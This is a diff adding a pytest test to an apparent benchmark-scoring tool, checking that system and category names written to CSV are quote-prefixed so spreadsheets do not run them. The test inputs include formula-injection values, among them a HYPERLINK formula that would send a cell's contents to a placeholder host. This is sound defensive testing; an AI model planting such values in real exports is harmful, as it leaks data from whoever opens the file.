@@ -195,6 +195,15 @@ def test_means_of_partly_scored_systems_are_over_the_common_questions(score_file
     assert "- Warning: no question was scored for all systems, so their numbers are not comparable: " in notes[0]
 
 
+@pytest.mark.parametrize("name", ['=HYPERLINK("http://x/?"&A2)', "@SUM(1)", "+1", " -1+cmd", " =1"])
+def test_a_spreadsheet_runs_no_name_of_the_csv(name, score_file, capsys):
+    """A system's name, and a category's, which may be somebody else's text."""
+    path = score_file("a.json", *scored(name, 1.0), *scored("ice", 0.5))
+    main(["--system", name, path, "--format", "csv"])
+    head, row = csv.reader(io.StringIO(capsys.readouterr().out))
+    assert row[0] == f"'{name.strip()}" and f"'{name.strip()}" in head and float(row[head.index("ice")]) == 0.5
+
+
 class TestOwnGroups:
     """Categories that LaMP-QA does not have are columns of their own, and all questions together are the last one."""
 
